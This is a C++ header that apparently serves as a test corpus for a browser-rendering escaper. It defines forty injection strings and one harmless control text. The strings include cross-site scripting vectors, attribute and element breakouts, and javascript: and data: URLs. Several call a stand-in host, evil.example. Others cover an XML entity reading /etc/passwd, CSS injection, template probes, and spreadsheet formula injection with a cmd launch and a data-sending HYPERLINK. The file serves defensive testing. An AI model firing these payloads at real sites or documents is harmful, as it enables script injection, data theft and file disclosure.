// Texts that would do something in a page if they were more than text there: set `__pwned` or the title, fetch, send,
// or break what stands around them. Valid UTF-8 without control or bidirectional characters and line ends, which
// descriptions and tables refuse.
#pragma once

#include <array>
#include <string_view>

namespace bloctype::browser {

inline constexpr auto kPayloads = std::to_array<std::string_view>({
    // elements
    R"(<script>window.__pwned=1;document.title='pwned'</script>)",
    R"(<ScRiPt src="https://evil.example/x.js"></sCrIpT>)",
    R"(<img src=x onerror="window.__pwned=1">)",
    R"(<svg onload="window.__pwned=1"><circle r="9"/></svg>)",
    R"(<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>)",
    R"(<object data="data:text/html,<script>top.__pwned=1</script>"></object><embed src="https://evil.example/e">)",
    R"(<details open ontoggle="window.__pwned=1"><summary>s</summary></details>)",
    R"(<meta http-equiv="refresh" content="0;url=https://evil.example/">)",
    R"(<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example/x.css">)",
    R"(<form id="__pwned" action="https://evil.example/"><input name="q" autofocus onfocus="window.__pwned=1"></form>)",
    R"(<a id="__pwned" href="javascript:window.__pwned=1">clobbered</a>)",
    R"(<audio src="https://evil.example/a.ogg" onerror="window.__pwned=1"><video poster="//evil.example/p.png">)",
    R"(<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">)",
    R"(<svg><set attributeName="href" to="javascript:window.__pwned=1"/><a><text>go</text></a></svg>)",
    R"(<svg><foreignObject><body onload="window.__pwned=1"></body></foreignObject></svg>)",
    // out of an attribute
    R"(" onmouseover="window.__pwned=1" autofocus onfocus="window.__pwned=1" x=")",
    R"(' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1' x=')",
    R"("><script>window.__pwned=1</script>)",
    R"('><img src=x onerror='window.__pwned=1'>)",
    R"(`` onmouseover=window.__pwned=1 x=``/onclick=window.__pwned=1)",
    // out of an element
    R"(</title><script>document.title='pwned';window.__pwned=1</script>)",
    R"(</desc></text></g></svg><img src=x onerror=window.__pwned=1>)",
    R"(</style><script>window.__pwned=1</script><style>)",
    R"(</textarea></noscript></template></select></script><script>window.__pwned=1</script>)",
    R"(</td></tr></table></details></figure></main></body></html><script>window.__pwned=1</script>)",
    // comments, sections, entities
    R"(--><script>window.__pwned=1</script><!--)",
    R"(<!--[if IE]><script>window.__pwned=1</script><![endif]--><!-- > --!>)",
    R"(]]><script>window.__pwned=1</script><![CDATA[)",
    R"(<?xml-stylesheet href="https://evil.example/x.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;)",
    R"(&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp;lt;b&amp;gt; &#60;b&#62; &#x3c;i&#x3e; &copy &notin; &)",
    // addresses
    R"(javascript:window.__pwned=1//%0Awindow.__pwned=1)",
    R"(data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+)",
    R"([a link](javascript:window.__pwned=1) ![a picture](https://evil.example/p.png) <https://evil.example/>)",
    // styles
    R"(;}body{background:url(//evil.example/b.png)}@import "https://evil.example/i.css";*{display:none!important)",
    R"(expression(window.__pwned=1);behavior:url(#x);-moz-binding:url(https://evil.example/x#y))",
    // templates, spreadsheets, numbers of characters
    R"({{7*7}} ${window.__pwned=1} #{7*7} <%= 7*7 %> {model} %s%n \u003cscript\u003e \x3cscript\x3e)",
    R"(=HYPERLINK("https://evil.example/?"&A1,"click") +cmd|' /C calc'!A0 @SUM(1+1) -2+3)",
    "\uFF1Cscript\uFF1Ewindow.__pwned=1\uFF1C/script\uFF1E \u2039img src=x onerror=window.__pwned=1\u203A "
    "\u02BAonload=\u02BA \u00BCscript\u00BE \u0130\u017F\u212A",
    R"(# h1 **bold** | a | b | <b>html</b> in markdown <http-equiv=x> ~~~ --- \\ \" \')",
    R"(<<<<a <b/ <c/x=">" <//d> < e> </ > <a/b/c onclick=window.__pwned=1)",
});
static_assert(kPayloads.size() == 40);

/// A text of their kind in which nothing means anything: pages made from it are what those made from payloads must be
/// like.
inline constexpr std::string_view kHarmless =
    "a text of several words which is about as long as the others are and in which nothing means anything at all";

}  // namespace bloctype::browser
